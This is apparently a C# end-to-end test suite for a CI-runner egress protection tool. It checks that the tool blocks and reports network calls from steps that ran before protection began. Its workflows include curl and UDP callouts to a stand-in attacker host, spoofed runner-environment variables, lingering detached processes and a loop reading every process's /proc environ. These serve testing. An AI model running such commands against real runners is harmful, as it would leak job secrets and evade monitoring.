using System.Diagnostics;
using System.Text.Json;
using Sallyport.EndToEnd.Tests.Machine;
using Sallyport.Lab;
using Sallyport.Lab.Processes;

namespace Sallyport.EndToEnd.Tests;

/// <summary>
/// The Action in the middle of a job, as a part of a local action: it has no `pre` then, and steps have run before it. It says which
/// and for how long (B9), and what they did does not choose what is watched.
/// </summary>
public sealed class LateActionTests(MachineFixture fixture) : IClassFixture<MachineFixture>
{
    private const string Attacker = $"curl -sS --max-time 30 http://{LabAddresses.Attacker}";

    /// <summary>By the environment of later steps, of a child that stays, and of a process that passes for a child of the worker.</summary>
    private const string Workflow = $"""
        name: Late
        on: push
        jobs:
          build:
            runs-on: self-hosted
            steps:
              - name: Comes first
                run: |
                  {Attacker}/first
                  {ActionFolder.TakeWrapped}
                  git init -q -b main .; git config user.name lab; git config user.email lab@lab.test
                  echo 'return 0;' > main.c; git add main.c; git commit -qm one
                  echo RUNNER_ENVIRONMENT=github-hosted >> "$GITHUB_ENV"
                  echo GITHUB_SERVER_URL=https://github.com >> "$GITHUB_ENV"
                  export RUNNER_ENVIRONMENT=github-hosted GITHUB_SERVER_URL=https://github.com
                  setsid sleep 60 < /dev/null > /dev/null 2>&1 &
                  exec "$PROGRAMS/sibling" sh -c 'setsid sleep 60 < /dev/null > /dev/null 2>&1 &'
              - name: Comes second
                run: sleep 0.5
              - name: Protect
                id: protect
                uses: ./wrapped
                with:
                  mode: block
                  endpoints: v4.test:80
              - name: After
                id: after
                run: |
                  sudo -n "$AGENT" job status --json > "$SIGNS/status"
                  touch "$SIGNS/protected"
                  for i in $(seq 400); do [ -e "$SIGNS/looked" ] && break; sleep 0.05; done
                  [ -e "$SIGNS/looked" ]
                  curl -sS --max-time 30 http://v4.test/allowed
                  {Attacker}/after || echo "curl says $?"
                  echo 'return 9;' >> main.c
        """;

    /// <summary>Once there is protection, into every process that there is. Whoever is stopped for it says nothing more.</summary>
    private const string Looks = """
        until [ -e "$0/protected" ]; do sleep 0.05; done
        for one in /proc/[0-9]*; do code=0; timeout 1 cat $one/environ > /dev/null 2>&1 || code=$?; [ $code -lt 125 ]; done
        touch "$0/looked"
        """;

    /// <summary>
    /// A shell whose parents have ended, a process that has a socket already and said something by it, and servers of the job's own. One
    /// of its processes has a socket that <see cref="Daemon"/> listens at.
    /// </summary>
    private static string LeftBehind(string protect) => $$"""
        name: Left
        on: push
        jobs:
          build:
            runs-on: self-hosted
            steps:
              - name: Leaves
                id: leaves
                run: |
                  {{ActionFolder.TakeWrapped}}
                  cat > udp.py <<'END'
                  import os, socket, time
                  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                  s.connect(("{{LabAddresses.Attacker}}", 9999))
                  s.send(b"udp-first")
                  while not os.path.exists(os.environ["SIGNS"] + "/go"): time.sleep(0.05)
                  for i in range(3):
                      try: s.send(b"udp-left")
                      except OSError: pass
                  open(os.environ["SIGNS"] + "/udp-sent", "w")
                  time.sleep(60)
                  END
                  cat > serve.py <<'END'
                  import http.server, socket, socketserver, threading
                  giver = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                  giver.connect("{{RunnerMachine.Work}}/give")
                  taken = socket.recv_fds(giver, 1, 1)[1]
                  class Unix(socketserver.ThreadingUnixStreamServer):
                      def get_request(self): return super().get_request()[0], ("own", 0)
                  handler = http.server.SimpleHTTPRequestHandler
                  threading.Thread(target=Unix("own.sock", handler).serve_forever).start()
                  http.server.HTTPServer(("127.0.0.1", 8099), handler).serve_forever()
                  END
                  setsid python3 serve.py < /dev/null > /dev/null 2>&1 &
                  until curl -sS -o /dev/null http://127.0.0.1:8099/udp.py; do sleep 0.05; done
                  setsid python3 udp.py < /dev/null > /dev/null 2>&1 &
                  setsid sh -c 'until [ -e "$SIGNS/go" ]; do sleep 0.05; done; {{Attacker}}/tcp-left; touch "$SIGNS/tcp-called"; sleep 60' < /dev/null > /dev/null 2>&1 &
              {{protect}}
              - name: After
                id: after
                run: |
                  curl -sS -o /dev/null --max-time 30 http://127.0.0.1:8099/udp.py
                  curl -sS -o /dev/null --max-time 30 --unix-socket own.sock http://own/udp.py
                  curl -sS -o /dev/null --max-time 30 http://127.0.0.1:8098/ && touch "$SIGNS/daemon-asked"
                  curl -sS -o /dev/null --max-time 30 --unix-socket {{DaemonSocket}} http://daemon/ && touch "$SIGNS/daemon-asked-by-path"
                  touch "$SIGNS/go"
                  for i in $(seq 800); do [ -e "$SIGNS/udp-sent" ] && [ -e "$SIGNS/tcp-called" ] && exit 0; sleep 0.05; done
                  exit 1
        """;

    private const string DaemonSocket = $"{RunnerMachine.Work}/daemon.sock";

    /// <summary>Of root's, outside of the job: listens at a port and at a path, and gives its listening socket to whoever asks for it.</summary>
    private const string Daemon = $"""
        import http.server, os, socket, socketserver, threading
        class Unix(socketserver.ThreadingUnixStreamServer):
            def get_request(self): return super().get_request()[0], ("daemon", 0)
        handler = http.server.SimpleHTTPRequestHandler
        server = http.server.HTTPServer(("127.0.0.1", 8098), handler)
        if os.path.exists("{DaemonSocket}"): os.unlink("{DaemonSocket}")
        by_path = Unix("{DaemonSocket}", handler)
        os.chmod("{DaemonSocket}", 0o777)
        for one in server, by_path: threading.Thread(target=one.serve_forever).start()
        giver = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        if os.path.exists("{RunnerMachine.Work}/give"): os.unlink("{RunnerMachine.Work}/give")
        giver.bind("{RunnerMachine.Work}/give")
        os.chmod("{RunnerMachine.Work}/give", 0o777)
        giver.listen()
        print("listening", flush=True)
        while True: socket.send_fds(giver.accept()[0], [b"x"], [server.fileno()])
        """;

    private static string Protect(string mode) => $"""
        - name: Protect
                uses: ./wrapped
                with:
                  mode: {mode}
                  endpoints: v4.test:80
        """;

    [Theory]
    [InlineData("self-hosted")]
    [InlineData("github-hosted")]
    public async Task What_a_step_left_running_before_protection_is_judged_and_named_after_that_step(string environment)
    {
        using LabProcess daemon = fixture.Machine.Network.Start("python3", "-c", Daemon);
        await daemon.SaysAsync("listening", TimeSpan.FromSeconds(20));
        (WorkflowRun control, string[] asked) = await LeaveBehindAsync("", environment);
        Assert.True(control.ConclusionOf() == "success", control.ToString());
        Assert.Equal(s_ways, asked);
        Assert.True(control.Traffic.Contains("/tcp-left ") && control.Traffic.Contains("udp-left"), control.ToString());
        (WorkflowRun run, asked) = await LeaveBehindAsync(Protect("block"), environment);
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.Empty(asked);
        AssertOfDaemon(run, "refused");
        Assert.True(run.Traffic.Contains("udp-first"), run.ToString());
        Assert.False(run.Traffic.Contains("/tcp-left ") || run.Traffic.Contains("udp-left"), run.ToString());
        foreach ((int port, string program) in ((int, string)[])[(80, "curl"), (9999, "python3")])
        {
            JsonElement row = Assert.Single(
                run.Report.Connections, row => JobReport.Text(row, "address") == LabAddresses.Attacker && row.GetProperty("port").GetInt32() == port);
            Assert.Equal(("refused", "leaves"), (JobReport.Text(row, "verdict"), JobReport.Text(row, "step")));
            Assert.Contains(program, JobReport.Text(run.Report.ProcessOf(JobReport.Text(row, "process")), "exe"), StringComparison.Ordinal);
        }
    }

    /// <summary>Where the whole machine is the job's, a daemon of root's that is older than the runner carries out what it is told to all the same.</summary>
    [Fact]
    public async Task What_was_asked_of_an_older_daemon_of_the_machine_is_told_in_audit()
    {
        using LabProcess daemon = fixture.Machine.Network.Start("python3", "-c", Daemon);
        await daemon.SaysAsync("listening", TimeSpan.FromSeconds(20));
        (WorkflowRun run, string[] asked) = await LeaveBehindAsync(Protect("audit"), "github-hosted");
        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.Equal(s_ways, asked);
        AssertOfDaemon(run, "observed");
    }

    private static readonly string[] s_ways = ["daemon-asked", "daemon-asked-by-path"];

    private static void AssertOfDaemon(WorkflowRun run, string verdict)
    {
        foreach ((string address, int port) in ((string, int)[])[("127.0.0.1", 8098), (DaemonSocket, 0)])
        {
            JsonElement row = Assert.Single(
                run.Report.Connections, row => JobReport.Text(row, "address") == address && row.GetProperty("port").GetInt32() == port);
            Assert.True(
                (JobReport.Text(row, "verdict"), JobReport.Text(row, "reason"), JobReport.Text(row, "step")) == (verdict, "helper", "after")
                    && row.GetProperty("wouldRefuse").GetBoolean() == (verdict == "observed"),
                $"{row}\n{run}");
        }
    }

    /// <summary>The run, and by which ways the daemon answered its last step.</summary>
    private async Task<(WorkflowRun Run, string[] Asked)> LeaveBehindAsync(string protect, string environment)
    {
        fixture.Machine.Network.World.Clear();
        using StartedRun started = fixture.Machine.Start(
            LeftBehind(protect), "--user", RunnerMachine.User, "--runner-environment", environment, "--server-url", "https://github.com");
        return (await started.EndAsync(), [.. s_ways.Where(way => File.Exists(Path.Combine(started.Folder, way)))]);
    }

    [Theory]
    [InlineData("self-hosted", "https://github.com", "job")]
    [InlineData(null, "https://ghe.example.com", "job")]
    [InlineData("github-hosted", "https://github.com", "machine")]
    public async Task It_says_what_it_has_missed_and_asks_the_runner_alone_what_machine_this_is(
        string? environment, string server, string scope)
    {
        fixture.Machine.Network.World.Clear();
        using StartedRun started = fixture.Machine.Start(
            Workflow,
            ["--user", RunnerMachine.User, "--server-url", server, .. environment is null ? (string[])[] : ["--runner-environment", environment]]);

        // Outside the folder of cgroups that is the machine here (agent.yml, cgroupRoot), where it may read what no process of the job's may.
        using var outsider = Process.Start("sh", ["-ec", Looks, started.Folder]);
        WorkflowRun run;
        try
        {
            run = await started.EndAsync();
        }
        finally
        {
            outsider.Kill();
        }

        Assert.True(run.ConclusionOf() == "success", run.ToString());
        Assert.True(run.Traffic.Contains("/first ") && run.Traffic.Contains("/allowed "), run.ToString());
        Assert.False(run.Traffic.Contains("/after "), run.ToString());
        Assert.Equal(["refused"], run.Report.Verdicts("after", LabAddresses.Attacker));

        JsonElement status = RunnerMachine.ReadJson(Path.Combine(started.Folder, "status"));
        Assert.Equal(scope, status.GetProperty("jobs")[0].GetProperty("scope").GetString());

        // uncoveredSeconds and stepsBefore, as the step that protects shows them.
        JsonElement gap = Assert.Single(
            run.Step("Protect").GetProperty("annotations").EnumerateArray(),
            one => one.GetProperty("title").GetString() == "Protection has gaps" && one.ToString().Contains("began", StringComparison.Ordinal));
        string message = gap.GetProperty("message").GetString()!;
        Assert.EndsWith("steps that ran before: Comes first, Comes second", message, StringComparison.Ordinal);
        Assert.True(double.Parse(message.Split(' ')[2], System.Globalization.CultureInfo.InvariantCulture) is > 0.5 and < 60, message);
        string summary = System.Net.WebUtility.HtmlDecode(run.Step("Post Protect").GetProperty("summary").GetString()!);
        Assert.Contains(LabAddresses.Attacker, summary, StringComparison.Ordinal);

        // Its report is not whole, and says what it lacks.
        Assert.Contains("**incomplete**", summary, StringComparison.Ordinal);
        Assert.Contains("2 steps ran before protection began (", summary, StringComparison.Ordinal);
        Assert.DoesNotContain("in force before every step", summary, StringComparison.Ordinal);
        Assert.False(run.Report.IsComplete, run.ToString());
        run.Report.AssertBegan(fromStart: false, "Comes first", "Comes second");

        // What was checked out before is known all the same.
        JsonElement tampered = Assert.Single(run.Report.Findings, found => JobReport.Text(found, "id") == "source-tampered");
        Assert.Equal("after", JobReport.Text(tampered, "step"));
    }
}
